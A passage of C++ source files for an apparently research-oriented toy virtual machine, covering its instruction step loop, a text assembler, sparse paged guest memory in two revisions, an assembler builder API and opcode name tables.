                return {StepKind::Fault, {}, img, "bad import index"};
            }
            push32(next, TagStore::EMPTY);
            next = addrs[insn.imm];
            if (instrumentor_)
                instrumentor_->routineEnter(*this, next);
            break;
          }
          case Opcode::CallR:
            push32(next, TagStore::EMPTY);
            next = reg(insn.r1);
            if (instrumentor_)
                instrumentor_->routineEnter(*this, next);
            break;
          case Opcode::Ret:
            next = pop32();
            break;

          case Opcode::Int80:
            eip_ = next;
            bbStart_ = true;
            return {StepKind::Syscall, {}, img, {}};
          case Opcode::CpuId:
            // Deterministic pseudo processor identification words.
            setReg(Reg::Eax, 0x48544856); // "HTHV"
            setReg(Reg::Ebx, 0x756e6548);
            setReg(Reg::Ecx, 0x6c65746e);
            setReg(Reg::Edx, 0x49656e69);
            break;
          case Opcode::Native: {
            const auto &names = img->image->natives;
            if ((size_t)insn.imm >= names.size()) {
                halted_ = true;
                return {StepKind::Fault, {}, img, "bad native index"};
            }
            eip_ = next;
            return {StepKind::Native, names[insn.imm], img, {}};
          }
          default:
            halted_ = true;
            return {StepKind::Fault, {}, img, "bad opcode"};
        }

        if (isControlTransfer(insn.op))
            bbStart_ = true;
        eip_ = next;
    }
    return {};
}

void
Machine::setTraceDepth(size_t depth)
{
    traceDepth_ = depth;
    while (trace_.size() > traceDepth_)
        trace_.pop_front();
}

std::string
Machine::traceToString() const
{
    std::string out;
    for (const TraceEntry &entry : trace_) {
        const LoadedImage *img = findImage(entry.pc);
        out += "  ";
        if (img) {
            out += img->image->path;
            out += "+";
            out += std::to_string(entry.pc - img->base);
        } else {
            out += std::to_string(entry.pc);
        }
        out += ": ";
        out += entry.insn.toString();
        out += "\n";
    }
    return out;
}

Machine
Machine::cloneForFork() const
{
    Machine out(*tags_);
    out.regs_ = regs_;
    out.regTags_ = regTags_;
    out.eip_ = eip_;
    out.zf_ = zf_;
    out.sf_ = sf_;
    out.halted_ = halted_;
    out.bbStart_ = bbStart_;
    out.trackTaint_ = trackTaint_;
    out.mem_ = mem_.clone();
    out.shadow_ = shadow_.clone();
    out.images_ = images_;
    // Block cache entries point into *this* machine's images_; the
    // clone starts with a cold cache and rebuilds as it runs.
    out.nextSoBase_ = nextSoBase_;
    out.instrumentor_ = instrumentor_;
    out.insnHook_ = insnHook_;
    out.stats_ = MachineStats{};
    return out;
}

} // namespace hth::vm
