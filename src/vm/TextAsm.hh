/**
 * @file
 * The HVM text assembler: parse assembly source into an Image.
 *
 * Complements the fluent builder API (Asm) with a conventional
 * textual front end, so guests can be written, stored and reviewed
 * as source. Syntax:
 *
 * @code
 *   ; comments run to end of line
 *   .data   msg   "hello\n"       ; NUL-terminated string constant
 *   .bytes  tbl   1 2 0xff        ; raw bytes
 *   .space  buf   64              ; zero-filled bss buffer
 *   .entry  main
 *
 *   main:
 *       movi  eax, 42             ; register, immediate
 *       lea   ebx, msg            ; address of a symbol
 *       load  ecx, [ebx+4]        ; memory operand
 *       store [ebx+0], ecx
 *       loadb edx, [ebx]
 *       storeb [ebx], edx
 *       add   eax, ebx
 *       addi  eax, -1
 *       cmp   eax, ecx
 *       cmpi  eax, 'x'            ; character immediates
 *       jnz   main
 *       push  eax
 *       pushi 7
 *       pushs msg                 ; push a symbol's address
 *       pop   ebx
 *       call  fn
 *       callr eax
 *       callimport strcpy         ; cross-image call
 *       int80
 *       cpuid
 *       nop
 *       halt
 *   fn:
 *       ret
 * @endcode
 */

#ifndef HTH_VM_TEXTASM_HH
#define HTH_VM_TEXTASM_HH

#include <memory>
#include <string>

#include "vm/Image.hh"

namespace hth::vm
{

/**
 * Assemble @p source into an image named @p path.
 *
 * @throws hth::FatalError with a line number on any syntax error.
 */
std::shared_ptr<const Image> assemble(const std::string &path,
                                      const std::string &source,
                                      bool shared_object = false);

} // namespace hth::vm

#endif // HTH_VM_TEXTASM_HH
