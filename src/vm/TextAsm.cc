#include "vm/TextAsm.hh"

#include <cctype>
#include <cstdlib>
#include <map>

#include "support/Logging.hh"
#include "support/StrUtil.hh"
#include "vm/Asm.hh"

namespace hth::vm
{

namespace
{

/** Parser state for one source file. */
class TextAssembler
{
  public:
    TextAssembler(const std::string &path, const std::string &source,
                  bool shared_object)
        : asm_(path, shared_object), source_(source)
    {
    }

    std::shared_ptr<const Image>
    run()
    {
        int line_no = 0;
        for (const std::string &raw : split(source_, '\n')) {
            ++line_no;
            line_ = line_no;
            std::string line = stripComment(raw);
            parseLine(trim(line));
        }
        return asm_.build();
    }

  private:
    [[noreturn]] void
    fail(const std::string &msg)
    {
        fatal("textasm line ", line_, ": ", msg);
    }

    static std::string
    stripComment(const std::string &line)
    {
        // A ';' outside of a string literal starts a comment.
        bool in_string = false;
        for (size_t i = 0; i < line.size(); ++i) {
            char c = line[i];
            if (c == '"' && (i == 0 || line[i - 1] != '\\'))
                in_string = !in_string;
            else if (c == ';' && !in_string)
                return line.substr(0, i);
        }
        return line;
    }

    /** Decode "\n"-style escapes in a string literal body. */
    std::string
    unescape(const std::string &body)
    {
        std::string out;
        for (size_t i = 0; i < body.size(); ++i) {
            if (body[i] != '\\' || i + 1 >= body.size()) {
                out.push_back(body[i]);
                continue;
            }
            switch (body[++i]) {
              case 'n': out.push_back('\n'); break;
              case 't': out.push_back('\t'); break;
              case '0': out.push_back('\0'); break;
              case '\\': out.push_back('\\'); break;
              case '"': out.push_back('"'); break;
              default: fail("bad escape in string literal");
            }
        }
        return out;
    }

    Reg
    parseReg(const std::string &token)
    {
        static const std::map<std::string, Reg> regs = {
            {"eax", Reg::Eax}, {"ebx", Reg::Ebx}, {"ecx", Reg::Ecx},
            {"edx", Reg::Edx}, {"esi", Reg::Esi}, {"edi", Reg::Edi},
            {"ebp", Reg::Ebp}, {"esp", Reg::Esp},
        };
        auto it = regs.find(toLower(token));
        if (it == regs.end())
            fail("expected register, got '" + token + "'");
        return it->second;
    }

    bool
    isRegister(const std::string &token)
    {
        static const char *names[] = {"eax", "ebx", "ecx", "edx",
                                      "esi", "edi", "ebp", "esp"};
        std::string low = toLower(token);
        for (const char *n : names)
            if (low == n)
                return true;
        return false;
    }

    int32_t
    parseImm(const std::string &token)
    {
        if (token.size() >= 3 && token.front() == '\'' &&
            token.back() == '\'') {
            std::string body =
                unescape(token.substr(1, token.size() - 2));
            if (body.size() != 1)
                fail("character literal must be one byte");
            return (int32_t)(uint8_t)body[0];
        }
        char *end = nullptr;
        long long v = std::strtoll(token.c_str(), &end, 0);
        if (!end || *end != '\0')
            fail("expected immediate, got '" + token + "'");
        return (int32_t)v;
    }

    bool
    looksLikeImm(const std::string &token)
    {
        if (token.empty())
            return false;
        if (token.front() == '\'')
            return true;
        char c = token[0];
        return std::isdigit((unsigned char)c) ||
               ((c == '-' || c == '+') && token.size() > 1);
    }

    /** Parse "[reg+off]" / "[reg-off]" / "[reg]". */
    void
    parseMem(const std::string &token, Reg *base, int32_t *off)
    {
        if (token.size() < 3 || token.front() != '[' ||
            token.back() != ']')
            fail("expected memory operand, got '" + token + "'");
        std::string body = token.substr(1, token.size() - 2);
        size_t pos = body.find_first_of("+-");
        if (pos == std::string::npos) {
            *base = parseReg(trim(body));
            *off = 0;
            return;
        }
        *base = parseReg(trim(body.substr(0, pos)));
        std::string rest = trim(body.substr(pos));
        *off = parseImm(rest);
    }

    /** Split an operand list on commas (no strings appear here). */
    std::vector<std::string>
    operands(const std::string &text)
    {
        std::vector<std::string> out;
        if (trim(text).empty())
            return out;
        for (const std::string &piece : split(text, ','))
            out.push_back(trim(piece));
        return out;
    }

    void
    parseDirective(const std::string &line)
    {
        std::vector<std::string> words = splitWs(line);
        const std::string &dir = words[0];
        if (dir == ".entry") {
            if (words.size() != 2)
                fail(".entry takes one label");
            asm_.entry(words[1]);
            return;
        }
        if (dir == ".space") {
            if (words.size() != 3)
                fail(".space takes a name and a size");
            asm_.dataSpace(words[1], (uint32_t)parseImm(words[2]));
            return;
        }
        if (dir == ".bytes") {
            if (words.size() < 3)
                fail(".bytes takes a name and at least one byte");
            std::vector<uint8_t> bytes;
            for (size_t i = 2; i < words.size(); ++i)
                bytes.push_back((uint8_t)parseImm(words[i]));
            asm_.dataBytes(words[1], std::move(bytes));
            return;
        }
        if (dir == ".data") {
            // .data name "string"
            size_t q1 = line.find('"');
            size_t q2 = line.rfind('"');
            if (words.size() < 3 || q1 == std::string::npos ||
                q2 <= q1)
                fail(".data takes a name and a string literal");
            asm_.dataString(words[1],
                            unescape(line.substr(q1 + 1,
                                                 q2 - q1 - 1)));
            return;
        }
        fail("unknown directive " + dir);
    }

    void
    parseLine(const std::string &line)
    {
        if (line.empty())
            return;
        if (line[0] == '.') {
            parseDirective(line);
            return;
        }
        if (line.back() == ':') {
            std::string name = trim(line.substr(0, line.size() - 1));
            if (name.empty())
                fail("empty label");
            asm_.label(name);
            return;
        }

        size_t sp = line.find_first_of(" \t");
        std::string mn = toLower(
            sp == std::string::npos ? line : line.substr(0, sp));
        std::vector<std::string> ops = operands(
            sp == std::string::npos ? "" : line.substr(sp));

        auto need = [&](size_t n) {
            if (ops.size() != n)
                fail(mn + " takes " + std::to_string(n) +
                     " operand(s)");
        };

        if (mn == "halt") { need(0); asm_.halt(); return; }
        if (mn == "nop") { need(0); asm_.nop(); return; }
        if (mn == "int80") { need(0); asm_.int80(); return; }
        if (mn == "cpuid") { need(0); asm_.cpuid(); return; }
        if (mn == "ret") { need(0); asm_.ret(); return; }

        if (mn == "mov") {
            need(2);
            asm_.mov(parseReg(ops[0]), parseReg(ops[1]));
            return;
        }
        if (mn == "movi") {
            need(2);
            asm_.movi(parseReg(ops[0]), parseImm(ops[1]));
            return;
        }
        if (mn == "lea") {
            need(2);
            Reg dst = parseReg(ops[0]);
            if (!ops[1].empty() && ops[1].front() == '[') {
                Reg base;
                int32_t off;
                parseMem(ops[1], &base, &off);
                asm_.lea(dst, base, off);
            } else if (looksLikeImm(ops[1]) || isRegister(ops[1])) {
                fail("lea takes a symbol or memory operand");
            } else {
                asm_.leaSym(dst, ops[1]);
            }
            return;
        }
        if (mn == "load" || mn == "loadb") {
            need(2);
            Reg dst = parseReg(ops[0]);
            Reg base;
            int32_t off;
            parseMem(ops[1], &base, &off);
            if (mn == "load")
                asm_.load(dst, base, off);
            else
                asm_.loadb(dst, base, off);
            return;
        }
        if (mn == "store" || mn == "storeb") {
            need(2);
            Reg base;
            int32_t off;
            parseMem(ops[0], &base, &off);
            Reg src = parseReg(ops[1]);
            if (mn == "store")
                asm_.store(base, off, src);
            else
                asm_.storeb(base, off, src);
            return;
        }

        if (mn == "push") { need(1); asm_.push(parseReg(ops[0]));
            return; }
        if (mn == "pushi") { need(1); asm_.pushi(parseImm(ops[0]));
            return; }
        if (mn == "pushs") { need(1); asm_.pushSym(ops[0]); return; }
        if (mn == "pop") { need(1); asm_.pop(parseReg(ops[0]));
            return; }

        if (mn == "add" || mn == "sub" || mn == "and" || mn == "or" ||
            mn == "xor" || mn == "mul") {
            need(2);
            Reg a = parseReg(ops[0]);
            Reg b = parseReg(ops[1]);
            if (mn == "add") asm_.add(a, b);
            else if (mn == "sub") asm_.sub(a, b);
            else if (mn == "and") asm_.and_(a, b);
            else if (mn == "or") asm_.or_(a, b);
            else if (mn == "xor") asm_.xor_(a, b);
            else asm_.mul(a, b);
            return;
        }
        if (mn == "addi" || mn == "shl" || mn == "shr" ||
            mn == "cmpi") {
            need(2);
            Reg r = parseReg(ops[0]);
            int32_t imm = parseImm(ops[1]);
            if (mn == "addi") asm_.addi(r, imm);
            else if (mn == "shl") asm_.shl(r, imm);
            else if (mn == "shr") asm_.shr(r, imm);
            else asm_.cmpi(r, imm);
            return;
        }
        if (mn == "cmp") {
            need(2);
            asm_.cmp(parseReg(ops[0]), parseReg(ops[1]));
            return;
        }

        if (mn == "jmp" || mn == "jz" || mn == "jnz" || mn == "jl" ||
            mn == "jge" || mn == "call") {
            need(1);
            if (mn == "jmp") asm_.jmp(ops[0]);
            else if (mn == "jz") asm_.jz(ops[0]);
            else if (mn == "jnz") asm_.jnz(ops[0]);
            else if (mn == "jl") asm_.jl(ops[0]);
            else if (mn == "jge") asm_.jge(ops[0]);
            else asm_.call(ops[0]);
            return;
        }
        if (mn == "callr") { need(1); asm_.callr(parseReg(ops[0]));
            return; }
        if (mn == "callimport") { need(1); asm_.callImport(ops[0]);
            return; }
        if (mn == "native") { need(1); asm_.native(ops[0]); return; }

        fail("unknown mnemonic '" + mn + "'");
    }

    Asm asm_;
    const std::string &source_;
    int line_ = 0;
};

} // namespace

std::shared_ptr<const Image>
assemble(const std::string &path, const std::string &source,
         bool shared_object)
{
    return TextAssembler(path, source, shared_object).run();
}

} // namespace hth::vm
