/**
 * @file
 * Sparse paged guest memory (32-bit flat address space).
 *
 * Accessors are page-chunked: multi-byte operations touch the page
 * table once per page instead of once per byte, and a one-entry
 * page cache (micro-TLB) turns the common same-page access into a
 * compare. Pages are never deallocated, so cached page pointers
 * stay valid for the lifetime of the object.
 */

#ifndef HTH_VM_MEMORY_HH
#define HTH_VM_MEMORY_HH

#include <algorithm>
#include <array>
#include <cstdint>
#include <cstring>
#include <memory>
#include <string>
#include <unordered_map>

namespace hth::vm
{

/** Byte-addressable sparse memory; unmapped reads return zero. */
class GuestMemory
{
  public:
    static constexpr uint32_t PAGE_BITS = 12;
    static constexpr uint32_t PAGE_SIZE = 1u << PAGE_BITS;

    uint8_t
    read8(uint32_t addr) const
    {
        const Page *p = lookup(addr >> PAGE_BITS);
        if (!p)
            return 0;
        return (*p)[addr & (PAGE_SIZE - 1)];
    }

    void
    write8(uint32_t addr, uint8_t value)
    {
        ensure(addr >> PAGE_BITS)[addr & (PAGE_SIZE - 1)] = value;
    }

    uint32_t
    read32(uint32_t addr) const
    {
        const uint32_t off = addr & (PAGE_SIZE - 1);
        if (off <= PAGE_SIZE - 4) {
            const Page *p = lookup(addr >> PAGE_BITS);
            if (!p)
                return 0;
            const uint8_t *b = p->data() + off;
            return (uint32_t)b[0] | ((uint32_t)b[1] << 8) |
                   ((uint32_t)b[2] << 16) | ((uint32_t)b[3] << 24);
        }
        return (uint32_t)read8(addr) | ((uint32_t)read8(addr + 1) << 8) |
               ((uint32_t)read8(addr + 2) << 16) |
               ((uint32_t)read8(addr + 3) << 24);
    }

    void
    write32(uint32_t addr, uint32_t value)
    {
        const uint32_t off = addr & (PAGE_SIZE - 1);
        if (off <= PAGE_SIZE - 4) {
            uint8_t *b = ensure(addr >> PAGE_BITS).data() + off;
            b[0] = (uint8_t)value;
            b[1] = (uint8_t)(value >> 8);
            b[2] = (uint8_t)(value >> 16);
            b[3] = (uint8_t)(value >> 24);
            return;
        }
        write8(addr, (uint8_t)value);
        write8(addr + 1, (uint8_t)(value >> 8));
        write8(addr + 2, (uint8_t)(value >> 16));
        write8(addr + 3, (uint8_t)(value >> 24));
    }

    void
    writeBytes(uint32_t addr, const void *src, size_t len)
    {
        const uint8_t *p = (const uint8_t *)src;
        while (len) {
            const uint32_t off = addr & (PAGE_SIZE - 1);
            const size_t chunk =
                std::min(len, (size_t)(PAGE_SIZE - off));
            std::memcpy(ensure(addr >> PAGE_BITS).data() + off, p,
                        chunk);
            addr += (uint32_t)chunk;
            p += chunk;
            len -= chunk;
        }
    }

    void
    readBytes(uint32_t addr, void *dst, size_t len) const
    {
        uint8_t *p = (uint8_t *)dst;
        while (len) {
            const uint32_t off = addr & (PAGE_SIZE - 1);
            const size_t chunk =
                std::min(len, (size_t)(PAGE_SIZE - off));
            const Page *pg = lookup(addr >> PAGE_BITS);
            if (pg)
                std::memcpy(p, pg->data() + off, chunk);
            else
                std::memset(p, 0, chunk);
            addr += (uint32_t)chunk;
            p += chunk;
            len -= chunk;
        }
    }

    /**
     * Length of the NUL-terminated string at @p addr, page-chunked
     * (memchr per page, not a lookup per byte). Returns @p max_len
     * when no NUL is found within the bound; an unmapped page reads
     * as zeroes, i.e. terminates the string.
     */
    size_t
    cstrlen(uint32_t addr, size_t max_len = 4096) const
    {
        size_t n = 0;
        while (n < max_len) {
            const uint32_t off = (addr + (uint32_t)n) &
                                 (PAGE_SIZE - 1);
            const size_t chunk =
                std::min(max_len - n, (size_t)(PAGE_SIZE - off));
            const Page *pg =
                lookup((addr + (uint32_t)n) >> PAGE_BITS);
            if (!pg)
                return n; // unmapped reads as zero: terminator
            const void *nul =
                std::memchr(pg->data() + off, 0, chunk);
            if (nul)
                return n + ((const uint8_t *)nul -
                            (pg->data() + off));
            n += chunk;
        }
        return max_len;
    }

    /** Read a NUL-terminated string (bounded by @p max_len). */
    std::string
    readCString(uint32_t addr, size_t max_len = 4096) const
    {
        std::string out(cstrlen(addr, max_len), '\0');
        readBytes(addr, out.data(), out.size());
        return out;
    }

    /** Write a string including the terminating NUL. */
    void
    writeCString(uint32_t addr, const std::string &s)
    {
        writeBytes(addr, s.data(), s.size());
        write8(addr + (uint32_t)s.size(), 0);
    }

    /** Deep copy for fork(). */
    GuestMemory
    clone() const
    {
        GuestMemory out;
        for (const auto &[pno, pg] : pages_)
            out.pages_.emplace(pno, std::make_unique<Page>(*pg));
        return out;
    }

    size_t pageCount() const { return pages_.size(); }

  private:
    using Page = std::array<uint8_t, PAGE_SIZE>;

    static constexpr uint32_t NO_PAGE = 0xffffffffu;

    /** Existing page or nullptr; refreshes the micro-TLB. */
    Page *
    lookup(uint32_t pno) const
    {
        if (pno == tlbPno_)
            return tlbPage_;
        auto it = pages_.find(pno);
        if (it == pages_.end())
            return nullptr;
        tlbPno_ = pno;
        tlbPage_ = it->second.get();
        return tlbPage_;
    }

    Page &
    ensure(uint32_t pno)
    {
        if (pno == tlbPno_ && tlbPage_)
            return *tlbPage_;
        auto [it, inserted] = pages_.try_emplace(pno);
        if (inserted) {
            it->second = std::make_unique<Page>();
            it->second->fill(0);
        }
        tlbPno_ = pno;
        tlbPage_ = it->second.get();
        return *it->second;
    }

    std::unordered_map<uint32_t, std::unique_ptr<Page>> pages_;

    mutable uint32_t tlbPno_ = NO_PAGE;
    mutable Page *tlbPage_ = nullptr;
};

} // namespace hth::vm

#endif // HTH_VM_MEMORY_HH
