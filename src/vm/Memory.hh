/**
 * @file
 * Sparse paged guest memory (32-bit flat address space).
 */

#ifndef HTH_VM_MEMORY_HH
#define HTH_VM_MEMORY_HH

#include <array>
#include <cstdint>
#include <cstring>
#include <memory>
#include <string>
#include <unordered_map>

namespace hth::vm
{

/** Byte-addressable sparse memory; unmapped reads return zero. */
class GuestMemory
{
  public:
    static constexpr uint32_t PAGE_BITS = 12;
    static constexpr uint32_t PAGE_SIZE = 1u << PAGE_BITS;

    uint8_t
    read8(uint32_t addr) const
    {
        auto it = pages_.find(addr >> PAGE_BITS);
        if (it == pages_.end())
            return 0;
        return (*it->second)[addr & (PAGE_SIZE - 1)];
    }

    void
    write8(uint32_t addr, uint8_t value)
    {
        page(addr >> PAGE_BITS)[addr & (PAGE_SIZE - 1)] = value;
    }

    uint32_t
    read32(uint32_t addr) const
    {
        return (uint32_t)read8(addr) | ((uint32_t)read8(addr + 1) << 8) |
               ((uint32_t)read8(addr + 2) << 16) |
               ((uint32_t)read8(addr + 3) << 24);
    }

    void
    write32(uint32_t addr, uint32_t value)
    {
        write8(addr, (uint8_t)value);
        write8(addr + 1, (uint8_t)(value >> 8));
        write8(addr + 2, (uint8_t)(value >> 16));
        write8(addr + 3, (uint8_t)(value >> 24));
    }

    void
    writeBytes(uint32_t addr, const void *src, size_t len)
    {
        const uint8_t *p = (const uint8_t *)src;
        for (size_t i = 0; i < len; ++i)
            write8(addr + (uint32_t)i, p[i]);
    }

    void
    readBytes(uint32_t addr, void *dst, size_t len) const
    {
        uint8_t *p = (uint8_t *)dst;
        for (size_t i = 0; i < len; ++i)
            p[i] = read8(addr + (uint32_t)i);
    }

    /** Read a NUL-terminated string (bounded by @p max_len). */
    std::string
    readCString(uint32_t addr, size_t max_len = 4096) const
    {
        std::string out;
        for (size_t i = 0; i < max_len; ++i) {
            uint8_t b = read8(addr + (uint32_t)i);
            if (b == 0)
                break;
            out.push_back((char)b);
        }
        return out;
    }

    /** Write a string including the terminating NUL. */
    void
    writeCString(uint32_t addr, const std::string &s)
    {
        writeBytes(addr, s.data(), s.size());
        write8(addr + (uint32_t)s.size(), 0);
    }

    /** Deep copy for fork(). */
    GuestMemory
    clone() const
    {
        GuestMemory out;
        for (const auto &[pno, pg] : pages_)
            out.pages_.emplace(pno, std::make_unique<Page>(*pg));
        return out;
    }

    size_t pageCount() const { return pages_.size(); }

  private:
    using Page = std::array<uint8_t, PAGE_SIZE>;

    Page &
    page(uint32_t pno)
    {
        auto it = pages_.find(pno);
        if (it == pages_.end()) {
            it = pages_.emplace(pno, std::make_unique<Page>()).first;
            it->second->fill(0);
        }
        return *it->second;
    }

    std::unordered_map<uint32_t, std::unique_ptr<Page>> pages_;
};

} // namespace hth::vm

#endif // HTH_VM_MEMORY_HH
