/**
 * @file
 * The HVM assembler: a fluent builder producing Image objects.
 *
 * Guest programs — the workload corpus standing in for the paper's
 * benchmark binaries and exploits — are written against this API.
 * Labels and data symbols may be referenced before definition; all
 * references are recorded as relocations and resolved when the image
 * is loaded (images are position-dependent only after loading, like
 * pre-ASLR Linux executables).
 */

#ifndef HTH_VM_ASM_HH
#define HTH_VM_ASM_HH

#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "vm/Image.hh"
#include "vm/Isa.hh"

namespace hth::vm
{

/** Assembler / image builder. */
class Asm
{
  public:
    explicit Asm(std::string path, bool shared_object = false);

    /** @name Data section @{ */

    /** Define named raw bytes; returns the symbol name for chaining. */
    std::string dataBytes(const std::string &name,
                          std::vector<uint8_t> bytes);

    /** Define a NUL-terminated string constant. */
    std::string dataString(const std::string &name,
                           const std::string &value);

    /** Reserve a zero-filled buffer. */
    std::string dataSpace(const std::string &name, uint32_t len);

    /** @} */
    /** @name Labels and symbols @{ */

    /** Define a code label (exported as a symbol) here. */
    void label(const std::string &name);

    /** Set the entry point to a label (default: offset 0). */
    void entry(const std::string &label_name);

    /** @} */
    /** @name Instructions @{ */

    void halt() { emit(Opcode::Halt); }
    void nop() { emit(Opcode::Nop); }

    void mov(Reg dst, Reg src) { emit(Opcode::MovRR, dst, src); }
    void movi(Reg dst, int32_t imm) { emit(Opcode::MovRI, dst, {}, imm); }
    /** Load the address of a symbol (an immediate: BINARY source). */
    void leaSym(Reg dst, const std::string &sym)
    {
        emitReloc(Opcode::MovRI, dst, {}, sym);
    }
    void lea(Reg dst, Reg base, int32_t off)
    {
        emit(Opcode::Lea, dst, base, off);
    }
    void load(Reg dst, Reg base, int32_t off = 0)
    {
        emit(Opcode::Load, dst, base, off);
    }
    void store(Reg base, int32_t off, Reg src)
    {
        emit(Opcode::Store, src, base, off);
    }
    void loadb(Reg dst, Reg base, int32_t off = 0)
    {
        emit(Opcode::LoadB, dst, base, off);
    }
    void storeb(Reg base, int32_t off, Reg src)
    {
        emit(Opcode::StoreB, src, base, off);
    }

    void push(Reg r) { emit(Opcode::Push, r); }
    void pushi(int32_t imm) { emit(Opcode::PushI, {}, {}, imm); }
    void pushSym(const std::string &sym)
    {
        emitReloc(Opcode::PushI, {}, {}, sym);
    }
    void pop(Reg r) { emit(Opcode::Pop, r); }

    void add(Reg dst, Reg src) { emit(Opcode::Add, dst, src); }
    void addi(Reg dst, int32_t imm) { emit(Opcode::AddI, dst, {}, imm); }
    void sub(Reg dst, Reg src) { emit(Opcode::Sub, dst, src); }
    void and_(Reg dst, Reg src) { emit(Opcode::And, dst, src); }
    void or_(Reg dst, Reg src) { emit(Opcode::Or, dst, src); }
    void xor_(Reg dst, Reg src) { emit(Opcode::Xor, dst, src); }
    void mul(Reg dst, Reg src) { emit(Opcode::Mul, dst, src); }
    void shl(Reg dst, int32_t imm) { emit(Opcode::Shl, dst, {}, imm); }
    void shr(Reg dst, int32_t imm) { emit(Opcode::Shr, dst, {}, imm); }

    void cmp(Reg a, Reg b) { emit(Opcode::Cmp, a, b); }
    void cmpi(Reg a, int32_t imm) { emit(Opcode::CmpI, a, {}, imm); }

    void jmp(const std::string &l) { emitReloc(Opcode::Jmp, {}, {}, l); }
    void jz(const std::string &l) { emitReloc(Opcode::Jz, {}, {}, l); }
    void jnz(const std::string &l) { emitReloc(Opcode::Jnz, {}, {}, l); }
    void jl(const std::string &l) { emitReloc(Opcode::Jl, {}, {}, l); }
    void jge(const std::string &l) { emitReloc(Opcode::Jge, {}, {}, l); }

    void call(const std::string &l)
    {
        emitReloc(Opcode::Call, {}, {}, l);
    }
    /** Call a routine exported by another image (e.g. libc). */
    void callImport(const std::string &sym);
    void callr(Reg r) { emit(Opcode::CallR, r); }
    void ret() { emit(Opcode::Ret); }

    void int80() { emit(Opcode::Int80); }
    void cpuid() { emit(Opcode::CpuId); }

    /**
     * Emit a native routine body: a Native instruction dispatching to
     * the registered C++ handler named @p name, followed by ret.
     */
    void native(const std::string &name);

    /** @} */

    /** Current code position (instruction index). */
    uint32_t here() const { return (uint32_t)text_.size(); }

    /**
     * Finalise the image. All referenced labels must be defined.
     * The relocation list rides along in Image::relocs for the
     * loader.
     */
    std::shared_ptr<const Image> build();

  private:
    void emit(Opcode op, Reg r1 = Reg::Eax, Reg r2 = Reg::Eax,
              int32_t imm = 0);
    void emitReloc(Opcode op, Reg r1, Reg r2, const std::string &sym);

    std::string path_;
    bool sharedObject_;
    std::vector<Instruction> text_;
    std::vector<uint8_t> data_;
    std::map<std::string, uint32_t> codeLabels_;  //!< insn index
    std::map<std::string, uint32_t> dataSyms_;    //!< data offset
    std::map<std::string, uint32_t> bssSyms_;     //!< bss offset
    uint32_t bssSize_ = 0;
    std::vector<Relocation> relocs_;
    std::vector<std::string> imports_;
    std::vector<std::string> natives_;
    std::string entryLabel_;
    bool built_ = false;
};

} // namespace hth::vm

#endif // HTH_VM_ASM_HH
