#include "vm/Isa.hh"

#include <sstream>

namespace hth::vm
{

const char *
regName(Reg r)
{
    switch (r) {
      case Reg::Eax: return "eax";
      case Reg::Ebx: return "ebx";
      case Reg::Ecx: return "ecx";
      case Reg::Edx: return "edx";
      case Reg::Esi: return "esi";
      case Reg::Edi: return "edi";
      case Reg::Ebp: return "ebp";
      case Reg::Esp: return "esp";
      default: return "?";
    }
}

const char *
opcodeName(Opcode op)
{
    switch (op) {
      case Opcode::Halt: return "halt";
      case Opcode::Nop: return "nop";
      case Opcode::MovRR: return "mov";
      case Opcode::MovRI: return "movi";
      case Opcode::Load: return "load";
      case Opcode::Store: return "store";
      case Opcode::LoadB: return "loadb";
      case Opcode::StoreB: return "storeb";
      case Opcode::Lea: return "lea";
      case Opcode::Push: return "push";
      case Opcode::PushI: return "pushi";
      case Opcode::Pop: return "pop";
      case Opcode::Add: return "add";
      case Opcode::AddI: return "addi";
      case Opcode::Sub: return "sub";
      case Opcode::And: return "and";
      case Opcode::Or: return "or";
      case Opcode::Xor: return "xor";
      case Opcode::Mul: return "mul";
      case Opcode::Shl: return "shl";
      case Opcode::Shr: return "shr";
      case Opcode::Cmp: return "cmp";
      case Opcode::CmpI: return "cmpi";
      case Opcode::Jmp: return "jmp";
      case Opcode::Jz: return "jz";
      case Opcode::Jnz: return "jnz";
      case Opcode::Jl: return "jl";
      case Opcode::Jge: return "jge";
      case Opcode::Call: return "call";
      case Opcode::CallSym: return "callsym";
      case Opcode::CallR: return "callr";
      case Opcode::Ret: return "ret";
      case Opcode::Int80: return "int80";
      case Opcode::CpuId: return "cpuid";
      case Opcode::Native: return "native";
      default: return "?";
    }
}

std::string
Instruction::toString() const
{
    std::ostringstream oss;
    oss << opcodeName(op) << " " << regName(r1) << "," << regName(r2)
        << "," << imm;
    return oss.str();
}

} // namespace hth::vm
