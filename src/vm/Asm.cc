#include "vm/Asm.hh"

#include <algorithm>

#include "support/Logging.hh"

namespace hth::vm
{

Asm::Asm(std::string path, bool shared_object)
    : path_(std::move(path)), sharedObject_(shared_object)
{
}

std::string
Asm::dataBytes(const std::string &name, std::vector<uint8_t> bytes)
{
    fatalIf(dataSyms_.count(name) || codeLabels_.count(name) ||
            bssSyms_.count(name),
            "asm ", path_, ": duplicate symbol ", name);
    dataSyms_[name] = (uint32_t)data_.size();
    data_.insert(data_.end(), bytes.begin(), bytes.end());
    return name;
}

std::string
Asm::dataString(const std::string &name, const std::string &value)
{
    std::vector<uint8_t> bytes(value.begin(), value.end());
    bytes.push_back(0);
    return dataBytes(name, std::move(bytes));
}

std::string
Asm::dataSpace(const std::string &name, uint32_t len)
{
    fatalIf(dataSyms_.count(name) || codeLabels_.count(name) ||
            bssSyms_.count(name),
            "asm ", path_, ": duplicate symbol ", name);
    bssSyms_[name] = bssSize_;
    bssSize_ += len;
    return name;
}

void
Asm::label(const std::string &name)
{
    fatalIf(dataSyms_.count(name) || codeLabels_.count(name),
            "asm ", path_, ": duplicate label ", name);
    codeLabels_[name] = (uint32_t)text_.size();
}

void
Asm::entry(const std::string &label_name)
{
    entryLabel_ = label_name;
}

void
Asm::emit(Opcode op, Reg r1, Reg r2, int32_t imm)
{
    fatalIf(built_, "asm ", path_, ": image already built");
    text_.push_back({op, r1, r2, imm});
}

void
Asm::emitReloc(Opcode op, Reg r1, Reg r2, const std::string &sym)
{
    relocs_.push_back({(uint32_t)text_.size(), sym});
    emit(op, r1, r2, 0);
}

void
Asm::callImport(const std::string &sym)
{
    auto it = std::find(imports_.begin(), imports_.end(), sym);
    size_t idx;
    if (it == imports_.end()) {
        idx = imports_.size();
        imports_.push_back(sym);
    } else {
        idx = (size_t)(it - imports_.begin());
    }
    emit(Opcode::CallSym, {}, {}, (int32_t)idx);
}

void
Asm::native(const std::string &name)
{
    label(name);
    natives_.push_back(name);
    emit(Opcode::Native, {}, {}, (int32_t)(natives_.size() - 1));
    ret();
}

std::shared_ptr<const Image>
